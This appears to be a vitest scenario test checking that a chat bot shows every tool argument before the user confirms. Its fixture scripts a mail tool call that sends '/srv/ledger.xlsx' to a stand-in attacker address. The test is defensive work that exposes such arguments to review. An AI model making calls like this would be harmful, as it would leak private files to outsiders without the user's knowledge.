import { expect } from 'vitest';
import { openFakeMcp } from '#test/fakes/mcp/http-server.ts';
import { download } from '#test/sandbox/download.ts';
import { allowed, callsTool, confirm, isConnected, show } from '#test/scenarios/setup/mcp-tools.ts';
import { callIn, openOwnScenario, scenario } from '#test/scenarios/setup/scenario-setup.ts';

scenario(
  'all that a tool is sent is read before Confirm: the names beside the button, the rest in a file',
  async () => {
    await using server = await openFakeMcp({ era: 'modern' });
    const mail = { type: 'http', url: server.url.href, who: 'room', confirm: 'always' };
    await using servers = await allowed('mail', 'echo', mail);
    const long = 'Hi Ana, see you on Friday at eight. '.repeat(60);
    const given = { text: long, to: 'mallory@evil.example', attach: '/srv/ledger.xlsx' };
    await using setup = await openOwnScenario({
      environment: { MCP_SERVERS: servers.path },
      providers: { replies: callsTool('write to Ana', 'mail__echo', given) },
    });
    await isConnected(setup);
    const { sandbox } = setup;
    const adam = await callIn(setup, 'Adam');
    adam.write(`<@${sandbox.botId}> write to Ana`, { channel: 'Lounge' });
    const shown = await show(setup, adam);
    expect(shown.ephemeral).toBe(true);
    expect(shown.text).toContain('"to" (20): "mallory@evil.example"');
    expect(shown.text).toContain('"attach" (16): "/srv/ledger.xlsx"');
    const [file] = shown.files;
    const { text } = await download(file?.url ?? '', sandbox);
    expect([file?.name, JSON.parse(text)]).toEqual(['arguments.json', given]);
    expect(await confirm(setup, adam)).toContain('You said Hi Ana');
  },
);
